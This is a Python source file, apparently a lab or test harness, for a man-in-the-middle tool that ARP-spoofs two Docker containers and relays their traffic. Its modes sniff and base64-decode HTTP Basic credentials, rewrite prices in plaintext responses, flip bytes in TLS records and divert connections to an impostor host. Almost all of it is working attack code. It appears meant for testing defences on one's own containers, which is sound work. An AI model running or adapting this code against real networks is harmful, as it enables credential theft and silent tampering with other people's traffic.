"""Puts itself between two containers on one Docker network by ARP spoofing, and forwards their packets.

    between.py watch|change|flip VICTIM PEER              reads · changes a price · changes one byte of each TLS record
    between.py divert VICTIM PEER IMPOSTOR GHOST           leads VICTIM's connections to IMPOSTOR instead of PEER

How this works. It sends both containers ARP packets that give its own MAC address for the other's IP address. So each frame
between them arrives here, and is forwarded by this program. GHOST is an unused address: diverted connections seem to come
from it, so their answers pass here too. It needs a raw socket (NET_RAW, which Docker gives to every container). Use it on
your own containers only; it has no effect beyond the network that it is on. At SIGTERM it prints one line of JSON that says
what it read and did.
"""

from __future__ import annotations

import base64
import contextlib
import json
import re
import signal
import socket
import struct
import sys
import threading
import time
from pathlib import Path
from typing import Any

DEVICE = "eth0"
IP, ARP = 0x0800, 0x0806
OUTGOING = 4
MSS = 1400
TCP = 6
FIN, PSH = 0x01, 0x08
PRICE, CHANGED = re.compile(rb"costs \d\d\.\d\d"), b"costs 00.01"
SECRET = re.compile(rb"Authorization: Basic (\S+)")


class Between:
    def __init__(self, mode: str, victim: str, peer: str, impostor: str = "", ghost: str = "") -> None:
        self.mode, self.victim, self.peer, self.impostor, self.ghost = mode, victim, peer, impostor, ghost
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.bind((DEVICE, 3))
        self.mac = bytes.fromhex(Path(f"/sys/class/net/{DEVICE}/address").read_text().strip().replace(":", ""))
        self.macs = {address: find_mac(address) for address in (victim, peer, impostor) if address}
        self.done = False
        self.frames = self.changed = self.diverted = 0
        self.passwords: set[str] = set()
        self.prices: set[str] = set()
        self.kinds = {"plaintext": 0, "tls": 0}
        self.sample = b""
        self.requested: set[bytes] = set()

    # -- ARP spoofing -------------------------------------------------------------------------------------------------

    def poison(self) -> None:
        while not self.done:
            for target, claimed in ((self.victim, self.peer), (self.peer, self.victim)):
                for operation in (1, 2):  # a request creates an entry in the target's ARP table; a reply changes one
                    self.arp(operation, claimed, target, self.macs[target])
            time.sleep(0.2)

    def restore(self) -> None:
        """Corrects both ARP tables. Without this the containers stay cut off from each other until the entries expire."""
        for target, claimed in ((self.victim, self.peer), (self.peer, self.victim)):
            for operation in (1, 2):
                self.arp(operation, claimed, target, self.macs[target], self.macs[claimed])

    def arp(self, operation: int, claimed: str, target: str, mac: bytes, at: bytes = b"") -> None:
        """Sends ``target`` an ARP packet: ``claimed`` has the MAC address ``at``, or this container's if that is empty."""
        body = struct.pack("!HHBBH", 1, IP, 6, 4, operation)
        body += (at or self.mac) + socket.inet_aton(claimed) + mac + socket.inet_aton(target)
        self.socket.send(mac + self.mac + struct.pack("!H", ARP) + body)

    # -- forwarding ---------------------------------------------------------------------------------------------------

    def carry(self) -> None:
        while True:
            frame, where = self.socket.recvfrom(65600)
            if where[2] == OUTGOING or len(frame) < 34:
                continue
            kind = struct.unpack_from("!H", frame, 12)[0]
            if kind == ARP and self.ghost and frame[38:42] == socket.inet_aton(self.ghost) and frame[21] == 1:
                self.arp(2, self.ghost, socket.inet_ntoa(frame[28:32]), frame[6:12])
            elif kind == IP and frame[:6] == self.mac:
                with contextlib.suppress(OSError):
                    self.packet(frame[14:])

    def packet(self, packet: bytes) -> None:
        source, target = socket.inet_ntoa(packet[12:16]), socket.inet_ntoa(packet[16:20])
        if {source, target} == {self.victim, self.peer}:
            self.frames += 1
            if self.mode == "divert" and source == self.victim:
                self.diverted += 1
                source, target, to = self.ghost, self.impostor, self.impostor
            else:
                to = target
        elif (source, target) == (self.impostor, self.ghost):
            source, target, to = self.peer, self.victim, self.victim
        else:
            return
        header = (packet[0] & 15) * 4
        length = struct.unpack_from("!H", packet, 2)[0] or len(packet)
        if packet[9] != TCP:
            self.socket.send(self.macs[to] + self.mac + struct.pack("!H", IP) + packet[:length])
            return
        segment = packet[header:length]
        offset = (segment[12] >> 4) * 4
        payload = self.read(
            segment[offset:], bytes(segment[:2] if to == self.peer else segment[2:4]), source == self.peer
        )
        self.send(to, packet[:header], source, target, segment[:offset], payload)

    def send(self, to: str, head: bytes, source: str, target: str, tcp: bytes, payload: bytes) -> None:
        """Sends in pieces: a packet from a container on this machine may be larger than the MTU."""
        sequence = struct.unpack_from("!I", tcp, 4)[0]
        ends = socket.inet_aton(source) + socket.inet_aton(target)
        for at in range(0, max(len(payload), 1), MSS):
            piece = payload[at : at + MSS]
            header = bytearray(tcp)
            struct.pack_into("!I", header, 4, (sequence + at) & 0xFFFFFFFF)
            if at + MSS < len(payload):
                header[13] &= ~(FIN | PSH)
            header[16:18] = b"\0\0"
            whole = bytes(header) + piece
            pseudo = ends + struct.pack("!BBH", 0, TCP, len(whole))
            struct.pack_into("!H", header, 16, checksum(pseudo + whole))
            ip = bytearray(head)
            struct.pack_into("!H", ip, 2, len(head) + len(whole))
            ip[10:12] = b"\0\0"
            ip[12:20] = ends
            struct.pack_into("!H", ip, 10, checksum(bytes(ip)))
            self.socket.send(self.macs[to] + self.mac + struct.pack("!H", IP) + bytes(ip) + bytes(header) + piece)

    # -- reading and changing -----------------------------------------------------------------------------------------

    def read(self, payload: bytes, caller: bytes, is_answer: bool) -> bytes:
        """Returns the payload to forward. ``caller`` is the victim's port, which identifies the connection."""
        if not payload:
            return payload
        if not self.requested:
            print(json.dumps({"event": "between"}), flush=True)
        self.kinds["tls" if payload[0] in (0x14, 0x15, 0x16, 0x17) else "plaintext"] += 1
        if not self.sample or payload[0] == 0x17:
            self.sample = payload[:48]
        for found in SECRET.findall(payload):
            self.passwords.add(base64.b64decode(found).decode())
        self.prices |= {found.decode() for found in PRICE.findall(payload)}
        changed = payload
        if self.mode == "change":
            changed = PRICE.sub(CHANGED, payload)
        elif self.mode == "flip" and is_answer and caller in self.requested and payload[0] == 0x17:
            changed = payload[:-1] + bytes([payload[-1] ^ 1])  # in the answer to a request, not in the handshake
        if not is_answer and (payload[0] == 0x17 or not self.requested):
            self.requested.add(caller if payload[0] == 0x17 else b"")
        self.changed += changed != payload
        return changed

    def result(self) -> dict[str, Any]:
        return {
            "frames": self.frames, "changed": self.changed, "diverted": self.diverted, "kinds": self.kinds,
            "passwords": sorted(self.passwords), "prices": sorted(self.prices), "sample": self.sample.hex(),
        }  # fmt: skip


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return 0xFFFF - total


def find_mac(address: str) -> bytes:
    """The MAC address of ``address``: sends it a datagram, then reads the kernel's ARP table."""
    for _ in range(50):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.sendto(b"?", (address, 9))
        for line in Path("/proc/net/arp").read_text().splitlines()[1:]:
            words = line.split()
            if words[0] == address and words[3] != "00:00:00:00:00:00":
                return bytes.fromhex(words[3].replace(":", ""))
        time.sleep(0.1)
    raise SystemExit(f"{address} does not answer here")


def main() -> None:
    between = Between(*sys.argv[1:])

    def end(*_signal: object) -> None:
        between.done = True
        for _ in range(5):
            between.restore()
            time.sleep(0.3)
        print(json.dumps(between.result()), flush=True)
        raise SystemExit(0)

    signal.signal(signal.SIGTERM, end)
    threading.Thread(target=between.poison, daemon=True).start()
    print(json.dumps({"event": "poisoning"}), flush=True)
    between.carry()


if __name__ == "__main__":
    main()
